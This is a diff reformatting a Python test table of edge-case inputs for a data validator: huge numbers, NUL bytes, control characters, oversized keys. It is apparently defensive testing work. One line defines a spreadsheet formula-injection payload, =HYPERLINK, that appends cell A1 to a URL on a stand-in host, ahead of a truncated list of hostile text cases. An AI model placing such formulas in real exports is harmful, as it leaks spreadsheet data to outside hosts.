@@ -33,7 +33,9 @@ class Cell:
         score(world)
 
 
-def cell(field: str, value: Any, expected: Expected, what: str = "", sources: tuple[str, ...] = EVERY) -> Cell:
+def cell(
+    field: str, value: Any, expected: Expected, what: str = "", sources: tuple[str, ...] = EVERY
+) -> Cell:
     return Cell(field, value, expected, what or repr(value), sources)
 
 
@@ -150,7 +152,12 @@ NUMBERS = [
     cell("amount", "-Infinity", bad("got '-Infinity'", POINT)),
     cell("amount", "1e308", bad("within ±3e+38"), "1e308 as text"),
     cell("amount", "1e999", bad("1e999", POINT), "beyond float64"),
-    cell("amount", "1234567890123456789012345678901234567890", bad("within ±3e+38"), "a whole number of 40 digits"),
+    cell(
+        "amount",
+        "1234567890123456789012345678901234567890",
+        bad("within ±3e+38"),
+        "a whole number of 40 digits",
+    ),
     cell("amount", "\x07" + "1", bad(POINT), "a control character before"),
     cell("amount", float("inf"), bad("got 'inf'", POINT), "infinity of the source's own", TYPED),
     cell("amount", float("-inf"), bad("got '-inf'", POINT), "minus infinity of the source's own", TYPED),
@@ -172,7 +179,12 @@ NUMBERS = [
     cell("amount", "12.", kept(12.0), "a point behind"),
     cell("amount", ".5", kept(0.5), "a point before"),
     cell("amount", "007", kept(7.0), "zeros before"),
-    cell("amount", "12.1234567890123456789012345678901234567890", kept(12.123456789012346), "a decimal of 40 digits"),
+    cell(
+        "amount",
+        "12.1234567890123456789012345678901234567890",
+        kept(12.123456789012346),
+        "a decimal of 40 digits",
+    ),
     cell("amount", "9223372036854775808", kept(9223372036854775808.0), "beyond 64 bits"),
 ]
 
@@ -233,7 +245,9 @@ TIMES = [
 
 TEXTS = [
     cell("note", "x" * 10_000_000, bad("(10000000 characters)", "text of at most 65536 bytes"), "10 MB"),
-    cell("kind", "x" * 1500, bad("(1500 characters)", "a short text of at most 1000 bytes"), "1,500 characters"),
+    cell(
+        "kind", "x" * 1500, bad("(1500 characters)", "a short text of at most 1000 bytes"), "1,500 characters"
+    ),
     cell("kind", "shop\x00web", bad("NUL"), "a NUL", ("csv", "parquet", "sqlite")),
     cell("note", "a\x00b", bad("NUL"), "a NUL", ("csv", "parquet", "sqlite")),
     cell("kind", "🙂👩‍👩‍👧", kept("🙂👩‍👩‍👧"), "an emoji"),
@@ -245,7 +259,7 @@ TEXTS = [
     cell("kind", "nan", kept("nan"), "the word nan"),
     cell("kind", "a kind that nobody saw", kept("a kind that nobody saw"), "an unseen category"),
     cell("note", "one\x1b[31mred\x07", kept("one\x1b[31mred\x07"), "control characters"),
-    cell("note", "two\r\nlines, and \"quotes\"", kept("two\r\nlines, and \"quotes\""), "a line break and quotes"),
+    cell("note", 'two\r\nlines, and "quotes"', kept('two\r\nlines, and "quotes"'), "a line break and quotes"),
     cell("note", "\\", kept("\\"), "a backslash"),
     cell("note", "e\u0301" * 200, kept("e\u0301" * 200), "composed characters"),
 ]
@@ -253,16 +267,26 @@ TEXTS = [
 IDENTITIES = [
     cell("id", "", bad("id: got", "a key of 1 to 512 bytes without NUL"), "an empty key"),
     cell("id", None, bad("id: got", "a key of 1 to 512 bytes without NUL"), "no key"),
-    cell("id", "k" * 600, bad("(600 characters)", "a key of 1 to 512 bytes without NUL"), "a key of 600 characters"),
+    cell(
+        "id",
+        "k" * 600,
+        bad("(600 characters)", "a key of 1 to 512 bytes without NUL"),
+        "a key of 600 characters",
+    ),
     cell("id", "1\x002", bad("id: got '1␀2'", "without NUL"), "a key with a NUL", ("parquet", "sqlite")),
-    cell("card", "c" * 1200, bad("card: got", "a short text of at most 1000 bytes"), "an entity of 1,200 characters"),
+    cell(
+        "card",
+        "c" * 1200,
+        bad("card: got", "a short text of at most 1000 bytes"),
+        "an entity of 1,200 characters",
+    ),
     cell("card", "", kept(None), "no entity"),
     cell("card", "🚚 <b>", kept("🚚 <b>"), "an entity of odd characters"),
     cell("fraud", "perhaps", kept(), "a truth that says nothing"),
     cell("fraud", None, kept(), "no truth"),
 ]
 
-FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"
+FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'
 HOSTILE = [
     Cell(field, text, kept(text), what, sources, "hostile text")
     for field, what, text, sources in [
